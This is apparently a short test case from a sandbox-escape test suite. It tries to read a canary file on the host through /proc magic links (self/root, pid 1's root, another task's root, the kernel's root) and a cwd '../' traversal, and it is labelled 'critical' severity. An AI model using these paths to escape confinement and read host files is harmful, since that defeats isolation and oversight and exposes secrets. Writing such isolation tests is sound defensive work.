# Reads a file of the host through the magic links of /proc: root, cwd, another task's root, the kernel's.
# severity: critical
# escape: secret
import os

from raw import A, steal, tried

for root in (
    "self/root",
    "thread-self/root",
    f"{os.getpid()}/root",
    "1/root",
    f"{A.victim}/root",
    f"{A.kernel}/root",
    "self/cwd/../../../../../..",
):
    steal(f"/proc/{root}{A.canary}")
tried()
